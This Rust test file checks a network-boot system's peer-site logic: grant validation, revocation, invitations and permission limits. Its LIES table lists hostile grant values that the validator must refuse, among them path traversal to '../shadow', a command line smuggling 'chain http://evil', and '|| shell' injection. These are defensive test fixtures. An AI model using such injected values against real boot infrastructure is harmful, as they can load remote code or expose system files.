//! What a site may not do, whatever it sends, and how sites come and part.

use super::*;

#[test]
fn scripts_secrets_and_overlays_stay_at_home() {
    let (mut a, mut b) = sites();
    let script = |c: &mut BootConfig| {
        c.program = Program::Ipxe {
            script: "chain x".to_owned(),
            files: Vec::new(),
        };
    };
    let secret = |c: &mut BootConfig| c.level = Some(Level::T1);
    for change in [&script as &dyn Fn(&mut BootConfig), &secret] {
        b.arms(1, change, Kind::OneShot);
        b.names_to("site-b", &mut a, "site-a");
        assert_eq!(a.plans(card(1)).plan, BootPlan::Silent);
        assert!(b.grants("site-a", 1, "s").is_err());
        b.does(&Deactivate(MachineRef("web1".to_owned()))).unwrap();
    }
}

type Lie = (&'static str, fn(&mut Grant));

/// What a grant may try, and a word of its refusal.
const LIES: [Lie; 16] = [
    ("nonce", |g| g.nonce = "../../etc".to_owned()),
    ("no name", |g| g.config = "a\nb".to_owned()),
    ("command line", |g| {
        g.cmdline = "quiet\nchain http://evil".to_owned();
    }),
    ("command line", |g| g.cmdline = "x ${net0/mac}".to_owned()),
    ("command line", |g| g.cmdline = "x || shell".to_owned()),
    ("command line", |g| g.cmdline = "x".repeat(5000)),
    ("file name", |g| g.files[0].name = "../shadow".to_owned()),
    ("file name", |g| g.files[0].name = "done".to_owned()),
    ("are called", |g| g.files[1].name = "vmlinuz".to_owned()),
    ("SHA-256", |g| g.files[0].sha256 = "../x".to_owned()),
    ("bytes", |g| g.files[0].size = u64::MAX),
    ("no kernel", |g| g.files.clear()),
    ("too many files", |g| g.files = vec![g.files[0].clone(); 17]),
    ("too long", |g| {
        g.answers.push(answer("big", "x".repeat(600 << 10)));
    }),
    ("file name", |g| {
        g.answers.push(answer("a/b", String::new()));
    }),
    ("writes to a disk", |g| g.writes_disk = true),
];

#[test]
fn a_grant_that_lies_is_refused_part_by_part() {
    let (mut a, mut b) = sites();
    b.arms(1, |_| {}, Kind::OneShot);
    b.names_to("site-b", &mut a, "site-a");
    let good = b.grants("site-a", 1, "s").unwrap();
    let before = a.view.clone();
    for (wanted, spoil) in LIES {
        let mut bad = good.clone();
        spoil(&mut bad);
        let refused = a.adopts("site-b", 1, &bad).expect_err(wanted);
        assert!(refused.contains(wanted), "{wanted}: {refused}");
        assert_eq!(a.view, before, "{wanted}");
    }
    // A template in a text is only a text.
    let mut odd = good.clone();
    odd.cmdline = "{{ nonce }}{% raw %}".to_owned();
    odd.lives_s = u32::MAX;
    let taken = a.adopts("site-b", 1, &odd).unwrap();
    assert!(taken.until.unwrap() <= a.now + SignedDuration::from_hours(24));
    let BootPlan::Config(ipxe::ConfigBoot::Kernel(kernel)) = a.serves(1, "s") else {
        panic!("not served");
    };
    assert_eq!(kernel.cmdline, "{{ nonce }}{% raw %}");
}

#[test]
fn a_peer_cannot_speak_of_an_activation_that_is_not_its_own() {
    let (mut a, mut b) = sites();
    a.registered(2);
    let own = a.arms(2, |_| {}, Kind::OneShot);
    b.arms(1, |_| {}, Kind::OneShot);
    b.names_to("site-b", &mut a, "site-a");
    let mut grant = b.grants("site-a", 1, "s").unwrap();
    grant.nonce = own.nonce.to_string();
    let refused = a.adopts("site-b", 1, &grant).unwrap_err();
    assert!(refused.contains("not its own"), "{refused}");
    let evidence = Outgoing {
        nonce: own.nonce.clone(),
        site: site("site-a"),
        outcome: Outcome::Confirmed,
        reason: String::new(),
        since: a.now,
    };
    assert!(!a.hears("site-b", &evidence));
    assert!(a.activation(&own.nonce).is_open());
}

#[test]
fn a_revoked_site_gets_nothing_names_nothing_and_boots_nothing() {
    let (mut a, mut b) = sites();
    let armed = b.arms(1, |_| {}, Kind::OneShot);
    b.names_to("site-b", &mut a, "site-a");
    let grant = b.grants("site-a", 1, "s").unwrap();
    a.adopts("site-b", 1, &grant).unwrap();
    let revoke = |name: &str| RevokePeer {
        site: site(name),
        by: "ann".to_owned(),
    };
    a.does(&revoke("site-b")).unwrap();
    assert!(!matches!(a.serves(1, "s"), BootPlan::Config(_)));
    assert_eq!(a.activation(&armed.nonce).stage, Stage::Expired);
    assert!(a.to_tell().is_empty());
    let named = NamedMacs {
        site: site("site-b"),
        macs: [card(1)].into(),
    };
    assert!(!a.does(&TakeMacs(named)));
    assert!(a.adopts("site-b", 1, &grant).is_err());
    assert_eq!(a.view.peers_naming(card(1)).count(), 0);
    b.does(&revoke("site-a")).unwrap();
    assert!(b.grants("site-a", 1, "s").is_err());
    assert_eq!(b.activation(&armed.nonce).given, None);
    let peer = b.view.peer(&site("site-a")).unwrap();
    assert!(macs_for(&b.view, peer, b.now).is_empty());
}

#[test]
fn an_invitation_is_good_once_for_an_hour_and_for_who_knows_its_secret() {
    let mut b = world_of("site-b");
    let id = b.invites(1);
    assert_eq!(
        b.admits(&id, "guess", "site-a"),
        Err(PeerError::BadInvitation)
    );
    let unknown = TokenId::from_random(9);
    assert_eq!(
        b.admits(&unknown, "secret", "site-a"),
        Err(PeerError::BadInvitation)
    );
    assert_eq!(
        b.admits(&id, "secret", "site-b"),
        Err(PeerError::OurName(site("site-b")))
    );
    b.admits(&id, "secret", "site-a").unwrap();
    b.admits(&id, "secret", "site-a").unwrap(); // its answer got lost
    assert_eq!(b.admits(&id, "secret", "site-c"), Err(PeerError::Used));
    let late = b.invites(2);
    b.pass(3600);
    assert_eq!(b.admits(&late, "secret", "site-c"), Err(PeerError::Expired));
    let other = b.invites(3);
    let admit = AdmitPeer {
        invitation: other,
        shown: Digest::of(b"secret"),
        card: SiteCard {
            ca_sha256: Digest::of(b"another CA"),
            ..card_of("site-a")
        },
    };
    assert_eq!(b.does(&admit), Err(PeerError::OtherCa(site("site-a"))));
    // What it may does not come back with it.
    b.allows("site-a", &["pool"], &["pool"], true);
    b.shows("site-a", &["pool"], true);
    b.does(&RevokePeer {
        site: site("site-a"),
        by: "ann".to_owned(),
    })
    .unwrap();
    b.does(&admit).unwrap();
    let peer = b.view.peer(&site("site-a")).unwrap();
    assert!(peer.may_ask.is_empty() && peer.may_boot.is_empty() && !peer.may_boot_unknown);
    assert!(peer.may_see.is_empty() && !peer.gives_images);
}

#[test]
fn permissions_and_invitations_have_limits() {
    let mut b = world_of("site-b");
    for n in 0..64 {
        b.invites(n);
    }
    let more = Invite {
        id: TokenId::from_random(64),
        secret_sha256: Digest::of(b"secret"),
        by: "ann".to_owned(),
    };
    assert_eq!(b.does(&more), Err(PeerError::TooManyInvitations));
    b.pass(3600);
    b.does(&more).unwrap();
    assert_eq!(b.view.invitations().count(), 64);
    b.joins_site("site-a");
    let allow = AllowPeer {
        site: site("site-a"),
        may_ask: Some(vec!["pool".parse().unwrap(); 17]),
        may_boot: None,
        may_boot_unknown: None,
        may_see: None,
        gives_images: None,
        by: "ann".to_owned(),
    };
    assert_eq!(b.does(&allow), Err(PeerError::TooManySelectors));
}
